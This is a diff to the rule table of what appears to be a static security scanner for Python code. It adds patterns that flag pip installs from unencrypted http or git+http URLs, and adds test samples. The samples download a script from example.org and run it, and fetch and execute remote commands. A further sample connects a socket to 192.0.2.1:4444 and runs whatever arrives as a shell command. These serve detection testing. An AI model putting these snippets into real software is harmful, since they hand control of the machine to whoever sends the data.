@@ -53,8 +53,20 @@ RULES: tuple[Rule, ...] = (
         Family.SUBPROCESS,
         ThreatLevel.CRITICAL,
         "{name} runs what was received over the network: whoever sends it controls this machine.",
-        (When(Kind.RUN, origins=(Origin.NETWORK,)),),
+        (
+            When(Kind.RUN, origins=(Origin.NETWORK,)),
+            When(
+                Kind.RUN,
+                values=(
+                    "pip* install *git+http://*",
+                    "pip* install http://*",
+                    "python* -m pip install http://*",
+                ),
+            ),
+        ),
         found=_py(
+            "import urllib.request, os\nurllib.request.urlretrieve('https://example.org/x', 'x.sh')\nos.system('sh x.sh')",
+            "import pip\npip.main(['install', 'git+http://example.org/x.git'])",
             "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nsubprocess.run(s.recv(1024).decode(), shell=True)",
             "import os, requests\ncommand = requests.get('https://example.org/task').text\nos.system(command)",
         ),
